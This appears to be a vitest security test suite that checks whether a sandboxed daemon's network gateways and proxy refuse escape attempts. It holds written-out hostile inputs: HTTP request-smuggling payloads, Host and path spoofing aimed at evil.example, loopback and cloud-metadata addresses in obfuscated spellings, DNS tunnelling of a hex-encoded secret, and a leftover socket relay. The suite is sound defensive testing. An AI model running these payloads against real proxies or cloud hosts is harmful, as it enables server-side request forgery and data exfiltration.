import { expect } from "vitest"
import type { Attack, Battlefield, Contained } from "../Attack.ts"
import { CAPABILITY, WITH_GATEWAY, onGround, sendRaw, type Ground } from "../egress-ground.ts"

/*
 * Group 18, and of group 9 what concerns names and metadata. The doors are the daemon's under bubblewrap; in a container the platform's
 * outbound handler judges by the same policy (`packages/core/src/domain/egress-policy.ts`, judgeOutbound).
 */

const DAEMON = { isolators: ["bubblewrap"], session: WITH_GATEWAY } as const
const crlf = (...lines: ReadonlyArray<string>) => lines.join("\r\n") + "\r\n\r\n"
const statusOf = (answer: string): string => /^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1] ?? "closed"
const tally = (values: ReadonlyArray<string>): string =>
  [...new Set(values)].map((value) => `${values.filter((other) => other === value).length} × ${value}`).join(", ")

/** Every text is refused, and the upstream hears of none of them. */
const refusedAtGateway = (texts: ReadonlyArray<string>) => (field: Battlefield) =>
  onGround(field, async ({ session, upstream }): Promise<Contained> => {
    const answers = await sendRaw(session, 80, texts)
    const statuses = answers.map(statusOf)
    for (const [i, status] of statuses.entries()) expect(["400", "403", "431", "closed"], texts[i]?.slice(0, 200)).toContain(status)
    expect(upstream).toEqual([])
    expect(answers.join("")).not.toContain(CAPABILITY)
    const refusals = await session.refusals()
    expect(refusals.length).toBeGreaterThan(0)
    return { by: "gateway door", evidence: `${texts.length} requests: ${tally(statuses)}; ${refusals.length} refusals told` }
  })

const hostileHosts = [
  "api.github.com",
  "git.loom.internal.evil.example",
  "git.loom.internal:443",
  "git.loom.internal@evil.example",
  "evil.example#git.loom.internal",
  "127.0.0.1",
  "169.254.169.254",
  "[::1]",
  "GIT。loom.internal",
  "git.loom.internal evil.example",
  "",
]

const paths = [
  "/../admin",
  "//evil.example/x",
  "/a//b",
  "/%2e%2e/admin",
  "/.%2E/x",
  "/a%2f..%2fb",
  "/a\\..\\b",
  "/a%5c..%5cb",
  "/./x",
  "/a#b",
  "*",
]

const smuggled = "GET /smuggled HTTP/1.1\r\nHost: git.loom.internal\r\n\r\n"
const post = (...headers: ReadonlyArray<string>) => ["POST /x HTTP/1.1", "Host: git.loom.internal", ...headers]
const smuggling = [
  crlf(...post("Content-Length: 6", "Transfer-Encoding: chunked")) + `0\r\n\r\n${smuggled}`,
  crlf(...post("Transfer-Encoding: chunked", "Content-Length: 6")) + `0\r\n\r\n${smuggled}`,
  crlf(...post("Content-Length: 0", `Content-Length: ${smuggled.length}`)) + smuggled,
  crlf(...post("Content-Length: +5")) + `hello${smuggled}`,
  crlf(...post("Content-Length: 0x5")) + `hello${smuggled}`,
  crlf(...post("Transfer-Encoding: xchunked")) + `0\r\n\r\n${smuggled}`,
  crlf(...post("Transfer-Encoding: chunked, identity")) + `0\r\n\r\n${smuggled}`,
  crlf(...post("Transfer-Encoding : chunked")) + `0\r\n\r\n${smuggled}`,
  crlf(...post("X-A: b\r\n Transfer-Encoding: chunked", "Content-Length : 5")) + `hello${smuggled}`,
  crlf(...post("X-A: b\u0000c")) + smuggled,
  crlf(...post("X-A: b\rX-B: c")) + smuggled,
  `POST /x HTTP/1.1\nHost: git.loom.internal\nContent-Length: 1\nTransfer-Encoding: chunked\n\n0\n\n${smuggled}`,
]

const odd = [
  "GET /\r\n",
  "GET / HTTP/0.9\r\n\r\n",
  "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
  crlf("GET / HTTP/3.0", "Host: git.loom.internal"),
  crlf("GET / HTTP/1.1"),
  crlf("GET / HTTP/1.1", "Host: git.loom.internal", "Host: api.github.com"),
  crlf("GET / HTTP/1.1", "Host: api.github.com", "Host: git.loom.internal"),
  crlf(
    "GET / HTTP/1.1",
    "Host: git.loom.internal",
    "Connection: Upgrade, HTTP2-Settings",
    "Upgrade: h2c",
    "HTTP2-Settings: AAMAAABkAAQAAP__",
  ),
  crlf(
    "GET / HTTP/1.1",
    "Host: git.loom.internal",
    "Connection: Upgrade",
    "Upgrade: websocket",
    "Sec-WebSocket-Version: 13",
    "Sec-WebSocket-Key: eA==",
  ),
  crlf("GET / HTTP/1.1", "Host: git.loom.internal", `X-Long: ${"a".repeat(70_000)}`),
  crlf("GET / HTTP/1.1", "Host: git.loom.internal", ...Array.from({ length: 20_000 }, (_, i) => `X-${i}: 1`)),
  "\u0016\u0003\u0001\u0000\u0005hello",
  "\u0000\u0000\u0000\u0000",
]

/** Authorities that all mean: not the listed host. `PORT` is the canary's port on this machine. */
const hostileAuthorities = [
  "127.0.0.1:PORT",
  "127.1:PORT",
  "2130706433:PORT",
  "0x7f000001:PORT",
  "0x7f.1:PORT",
  "017700000001:PORT",
  "0177.0.0.1:PORT",
  "0.0.0.0:PORT",
  "0:PORT",
  "[::1]:PORT",
  "[::]:PORT",
  "[::ffff:127.0.0.1]:PORT",
  "[::ffff:7f00:1]:PORT",
  "[0:0:0:0:0:0:0:1]:PORT",
  "[64:ff9b::7f00:1]:PORT",
  "127.0.0.1.:PORT",
  "localhost:PORT",
  "LOCALHOST.:PORT",
  "localhost@127.0.0.1:PORT",
  "user:pass@localhost:PORT",
  "127.0.0.1%00.localhost:PORT",
  "localhost%2e:PORT",
  "ⓛocalhost:PORT",
  "localhost。:PORT",
  "loсalhost:PORT",
  "xn--lcalhost-hqb:PORT",
  "127.0.0.1.nip.io:PORT",
  "169.254.169.254:80",
  "[fd00:ec2::254]:80",
  "metadata.google.internal:80",
  "100.100.100.200:80",
  "168.63.129.16:80",
  "10.0.0.1:443",
  "localhost:22",
  "localhost:25",
  "localhost:443",
  "localhost:0",
  "localhost:65536",
  "localhost:",
  "localhost",
  ":PORT",
  "",
]

const refusedAtRegistry = (ask: (authority: string) => string) => (field: Battlefield) =>
  onGround(field, async ({ registry, session }): Promise<Contained> => {
    const texts = hostileAuthorities.map((authority) => ask(authority.replace("PORT", String(field.canaries.port))))
    const answers = await sendRaw(session, 3128, texts)
    const statuses = answers.map(statusOf)
    for (const [i, status] of statuses.entries()) expect(["400", "403"], texts[i]).toContain(status)
    expect(answers.join("")).not.toContain("HOST REACHED")
    expect(registry()).toBe("")
    const told = await session.refusals()
    expect(told.every(({ message }) => message.startsWith("blocked host: "))).toBe(true)
    return { by: "registry door", evidence: `${texts.length} spellings: ${tally(statuses)}; ${told.length} refusals told` }
  })

const within = (
  name: string,
  group: number,
  run: (ground: Ground, field: Battlefield) => Promise<Contained>,
  more: Partial<Attack> = {},
): Attack => ({ group, name, ...DAEMON, run: (field) => onGround(field, (ground) => run(ground, field)), ...more })

export const egress: ReadonlyArray<Attack> = [
  {
    group: 18,
    name: "another host in the Host header",
    ...DAEMON,
    run: refusedAtGateway(hostileHosts.map((host) => crlf("GET / HTTP/1.1", `Host: ${host}`))),
  },
  {
    group: 18,
    name: "an absolute URI or CONNECT at a gateway",
    ...DAEMON,
    run: refusedAtGateway([
      ...["http://api.github.com/", "https://git.loom.internal/", "http://git.loom.internal/x", "//evil.example/"].map((target) =>
        crlf(`GET ${target} HTTP/1.1`, "Host: git.loom.internal"),
      ),
      ...["api.github.com:443", "git.loom.internal:80", "127.0.0.1:22"].map((target) =>
        crlf(`CONNECT ${target} HTTP/1.1`, `Host: git.loom.internal`),
      ),
    ]),
  },
  {
    group: 18,
    name: "paths that say one thing and mean another",
    ...DAEMON,
    run: refusedAtGateway(paths.map((path) => crlf(`GET ${path} HTTP/1.1`, "Host: git.loom.internal"))),
  },
  within("requests smuggled behind two lengths, folds and bare line feeds", 18, async ({ session, upstream }) => {
    const statuses = (await sendRaw(session, 80, smuggling)).map(statusOf)
    // A first request that is whole may pass; what hides behind it may not, and nothing arrives without the capability.
    expect(upstream.map(({ line }) => line)).not.toContain("GET /gateways/git/smuggled")
    expect(
      statuses.every((status) => status === "400" || status === "closed"),
      tally(statuses),
    ).toBe(true)
    return { by: "strict HTTP parser", evidence: `${smuggling.length} requests: ${tally(statuses)}; the upstream heard ${upstream.length}` }
  }),
  { group: 18, name: "no HTTP/1.1: 0.9, 2, upgrades, two hosts, headers without end", ...DAEMON, run: refusedAtGateway(odd) },
  {
    group: 18,
    name: "CONNECT to addresses in every spelling, odd ports, look-alikes",
    ...DAEMON,
    run: refusedAtRegistry((authority) => crlf(`CONNECT ${authority} HTTP/1.1`, `Host: ${authority}`)),
  },
  {
    group: 18,
    name: "absolute URIs to the same, through the proxy",
    ...DAEMON,
    run: refusedAtRegistry((authority) => crlf(`GET http://${authority}/latest/meta-data/ HTTP/1.1`, "Host: localhost")),
  },
  within("a listed name that points at this machine", 18, async ({ session }, { canaries }) => {
    // `localhost` is the operator's without a port, and the repository's with the canary's port: neither may lead to loopback.
    const [bare, ofRepository] = await sendRaw(session, 3128, [
      crlf("CONNECT localhost:443 HTTP/1.1", "Host: localhost"),
      crlf(`CONNECT localhost:${canaries.port} HTTP/1.1`, "Host: localhost"),
    ])
    for (const answer of [bare, ofRepository]) expect(answer).toContain("the name points at a loopback address")
    return { by: "address checked after resolution", evidence: "blocked host: localhost (the name points at a loopback address)" }
  }),
  within("a redirect of a gateway or registry to another host", 18, async ({ session, upstream }, { canaries }) => {
    const away = (to: string) => `curl -sS -L -m 5 --noproxy git.loom.internal 'http://git.loom.internal/away?to=${to}' 2>&1`
    const ran = await session.exec(
      [
        `export http_proxy=http://127.0.0.1:3128`,
        away(`http://127.0.0.1:${canaries.port}/`),
        away("http://169.254.169.254/latest/"),
        away("http://api.github.com/user"),
        `curl -sS -L -m 5 --noproxy '*' 'http://git.loom.internal/away?to=http://api.github.com/user' 2>&1`,
      ].join("; "),
      { gateways: true, network: "registries" },
    )
    expect(ran.out.match(/blocked host: /g)?.length, ran.out).toBe(3)
    expect(ran.out).toMatch(/Could not resolve host: api\.github\.com/)
    expect(ran.out).not.toContain("HOST REACHED")
    expect(upstream).toHaveLength(4)
    return { by: "every request judged anew", evidence: "3 × blocked host, 1 × no name resolved" }
  }),
  within("a tunnel to a listed host, and TLS inside it for another", 18, async ({ registry, registryPort, session }) => {
    const script = `const net = require("node:net"), tls = require("node:tls")
const ask = (servername) => new Promise((resolve) => {
  const socket = net.connect(3128, "127.0.0.1", () => socket.write("CONNECT localhost:${registryPort} HTTP/1.1\\r\\n\\r\\n"))
  socket.once("data", () => tls.connect({ socket, ...(servername && { servername }), rejectUnauthorized: false }).on("error", () => undefined).on("close", resolve))
  socket.on("error", () => undefined)
})
Promise.all([ask("evil.example"), ask("localhost.evil.example"), ask("")]).then(() => console.log("closed"))`
    const ran = await session.exec(["node", "-e", script], { network: "registries" })
    expect(ran.out).toBe("closed\n")
    expect(registry()).toBe("")
    const told = (await session.refusals()).filter(({ reason }) => reason === "another TLS server name")
    expect(told[0]?.count).toBe(3)
    return { by: "server name of TLS", evidence: "3 tunnels closed before a byte reached the registry" }
  }),
  within("a test that phones the registry of the set-up", 18, async ({ registry, registryPort, session }) => {
    const phone = `curl -sS -m 5 --noproxy '' -x http://127.0.0.1:3128 http://localhost:${registryPort}/phone 2>&1; curl -sS -m 5 http://registry.example.org/ 2>&1; env | grep -ci proxy`
    const setup = await session.exec(`curl -sS -o /dev/null -w '%{http_code}' http://localhost:${registryPort}/pkg --noproxy ''`, {
      network: "registries",
    })
    expect(setup.out).toBe("200")
    const before = registry()
    const tests = await session.exec(phone, { network: "tests" })
    expect(registry()).toBe(before)
    expect(tests.out).toMatch(/blocked host: localhost:\d+ \(host is not listed\); allow with `network: \{ tests: /)
    expect(tests.out).toMatch(/Could not resolve host: registry\.example\.org\n0\n$/)
    const told = (await session.refusals()).filter(({ phase }) => phase === "tests").map(({ host, via }) => `${via} ${host}`)
    expect(told).toEqual(["registry localhost", "dns registry.example.org"])
    return { by: "network of the tests", evidence: "the set-up got 200, the tests: blocked host (both by proxy and by name)" }
  }),
  within("a relay that the set-up leaves behind for the tests", 18, async ({ registry, registryPort, session }) => {
    const relay = `setsid nohup node -e 'require("node:net").createServer((c) => { const s = require("node:net").connect(3128, "127.0.0.1"); c.pipe(s).pipe(c); s.on("error", () => c.destroy()) }).listen("/tmp/relay.sock", () => console.log("up"))' </dev/null 2>/dev/null & sleep 1`
    const left = await session.exec(relay, { network: "registries" })
    expect(left.exit.code).toBe(0)
    const used = await session.exec(
      `curl -sS -m 3 --unix-socket /tmp/relay.sock http://localhost:${registryPort}/relayed 2>&1; echo; ls /proc | grep -cE '^[0-9]+$'`,
      { network: "tests" },
    )
    expect(used.out).toMatch(/Couldn't connect|Could not connect|Failed to connect|Connection refused/i)
    expect(registry()).not.toContain("relayed")
    return { by: "processes end with their exec", evidence: "the relay's socket is there, nobody listens" }
  }),
  within("metadata services and neighbours, without asking a door", 9, async ({ session }) => {
    const targets = [
      "http://169.254.169.254/latest/meta-data/",
      "http://[fd00:ec2::254]/",
      "http://100.100.100.200/",
      "http://1.1.1.1/",
      "http://10.0.0.1/",
      "http://172.17.0.1/",
    ]
    const script = targets.map((url) => `curl -s -g -m 2 --noproxy '*' -o /dev/null -w '%{http_code} ' ${url}`).join("; ")
    for (const network of [{}, { gateways: true }, { network: "registries" }, { network: "tests" }]) {
      const ran = await session.exec(`${script}; cat /proc/net/route | tail -n +2 | wc -l`, network)
      expect(ran.out, JSON.stringify(network)).toBe(`${"000 ".repeat(targets.length)}0\n`)
    }
    return { by: "network namespace without routes", evidence: `${targets.length} addresses × 4 kinds of network: unreachable` }
  }),
  within("names: look-ups, tunnels in them, resolvers elsewhere, DNS over HTTPS", 9, async ({ session }) => {
    const secret = "736563726574".repeat(4)
    const script = `import dgram from "node:dgram"
import { promises as dns } from "node:dns"
const say = (name) => (e) => console.log(name, e.code ?? e)
const ask = (server) => { const r = new dns.Resolver({ timeout: 500, tries: 1 }); r.setServers([server]); return r.resolve("example.com").catch(say(server)) }
await dns.lookup("${secret}.tunnel.example.org").catch(say("lookup"))
await dns.resolveTxt("txt.tunnel.example.org").catch(say("txt"))
for (const server of ["8.8.8.8", "1.1.1.1:53", "169.254.169.253", "[2606:4700:4700::1111]:53"]) await ask(server)
await new Promise((done) => { const s = dgram.createSocket("udp4"); s.on("error", () => undefined); s.bind(() => { s.setBroadcast(true); s.send("x", 53, "255.255.255.255", (e) => (console.log("broadcast", e?.code), s.close(), done())) }) })`
    const ran = await session.exec(
      `node --input-type=module -e '${script.replaceAll("'", "'\\''")}'; for h in dns.google:443 1.1.1.1:443 cloudflare-dns.com:443; do curl -s -m 3 -o /dev/null -w '%{http_connect} ' --proxytunnel --noproxy '' -x http://127.0.0.1:3128 https://$h/dns-query?name=x; done`,
      {
        network: "registries",
      },
    )
    const lines = ran.out.split("\n")
    expect(lines[0], ran.out + ran.err).toMatch(/^lookup (EAI_AGAIN|ENOTFOUND)$/)
    expect(lines[1]).toMatch(/^txt (EREFUSED|ESERVFAIL|ECONNREFUSED)$/)
    for (const line of lines.slice(2, 6)) expect(line).toMatch(/ (ECONNREFUSED|ETIMEOUT|ENETUNREACH)$/)
    expect(lines[6]).toMatch(/^broadcast (ENETUNREACH|EACCES|EPERM)$/)
    expect(lines[7]).toBe("403 403 403 ")
    const told = (await session.refusals()).map(({ host, via }) => `${via} ${host}`)
    expect(told).toContain(`dns ${secret}.tunnel.example.org`)
    expect(told).toContain("registry dns.google")
    return { by: "no name server inside", evidence: "look-up refused and told; 4 resolvers unreachable; 3 × 403 for DNS over HTTPS" }
  }),
]
